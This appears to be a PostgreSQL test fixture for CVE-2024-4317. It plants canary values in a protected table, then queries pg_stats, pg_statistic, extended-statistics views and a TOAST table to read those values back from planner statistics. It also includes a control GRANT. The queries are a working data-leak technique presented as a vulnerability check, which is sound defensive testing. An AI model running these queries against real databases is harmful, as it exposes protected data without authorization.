-- way: read sampled values of protected tables in the statistics
-- source: CVE-2024-4317
-- control: SELECT on pg_statistic
-- section: setup
CREATE TABLE vault.calls (phone text, line text);
INSERT INTO vault.calls SELECT :'canary', :'canary' FROM generate_series(1, 50);
CREATE STATISTICS vault.s (mcv) ON phone, line FROM vault.calls;
ANALYZE vault.calls;
-- section: application
SELECT most_common_vals, histogram_bounds FROM pg_stats WHERE schemaname = 'vault';
SELECT * FROM pg_stats_ext;
SELECT most_common_vals FROM pg_stats_ext_exprs;
SELECT stavalues1 FROM pg_statistic;
SELECT * FROM pg_statistic_ext_data;
SELECT m.* FROM pg_statistic_ext, pg_mcv_list_items(stxdmcv) m JOIN pg_statistic_ext_data ON true;
SELECT * FROM pg_toast.pg_toast_2619;
-- section: control
GRANT SELECT ON pg_statistic TO :"access";
